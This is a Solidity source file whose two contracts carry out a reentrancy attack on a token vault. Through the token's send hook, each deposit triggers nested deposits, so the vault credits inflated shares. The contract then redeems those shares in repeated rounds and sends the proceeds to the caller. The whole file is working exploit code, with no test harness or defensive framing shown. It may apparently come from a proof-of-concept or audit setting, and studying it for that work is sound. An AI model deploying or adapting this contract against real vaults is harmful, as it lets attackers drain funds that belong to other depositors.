// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IVault {
    function deposit(uint256 assets, address receiver) external returns (uint256);

    function redeem(uint256 shares, address receiver, address owner) external returns (uint256);

    function balanceOf(address account) external view returns (uint256);
}

interface IHookToken {
    function registerHooks(bool on) external;

    function approve(address spender, uint256 value) external returns (bool);

    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Deposits again while the token asks it for a deposit: the outer deposit counts what the inner one brought.
contract NestedDeposit {
    IVault immutable vault;
    IHookToken immutable token;
    Depositor immutable helper;
    uint256 depth;
    uint256 piece;

    constructor(IVault vault_, IHookToken token_, bool withHelper) {
        vault = vault_;
        token = token_;
        helper = withHelper ? new Depositor(vault_, token_) : Depositor(address(0));
    }

    function run(uint256 pieces, uint256 rounds) external {
        token.registerHooks(true);
        token.approve(address(vault), type(uint256).max);
        for (uint256 i = 0; i < rounds; i++) {
            piece = token.balanceOf(address(this)) / pieces;
            depth = pieces - 1;
            vault.deposit(piece, address(this));
            depth = 0;
            vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
        }
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function tokensToSend(address, address to, uint256) external {
        if (to != address(vault) || depth == 0) return;
        depth--;
        if (address(helper) == address(0)) {
            vault.deposit(piece, address(this));
        } else {
            token.transfer(address(helper), piece);
            helper.deposit(piece);
        }
    }

    function tokensReceived(address, address, uint256) external {}
}

/// Deposits in favour of another.
contract Depositor {
    IVault immutable vault;

    constructor(IVault vault_, IHookToken token) {
        vault = vault_;
        token.approve(address(vault_), type(uint256).max);
    }

    function deposit(uint256 assets) external {
        vault.deposit(assets, msg.sender);
    }
}
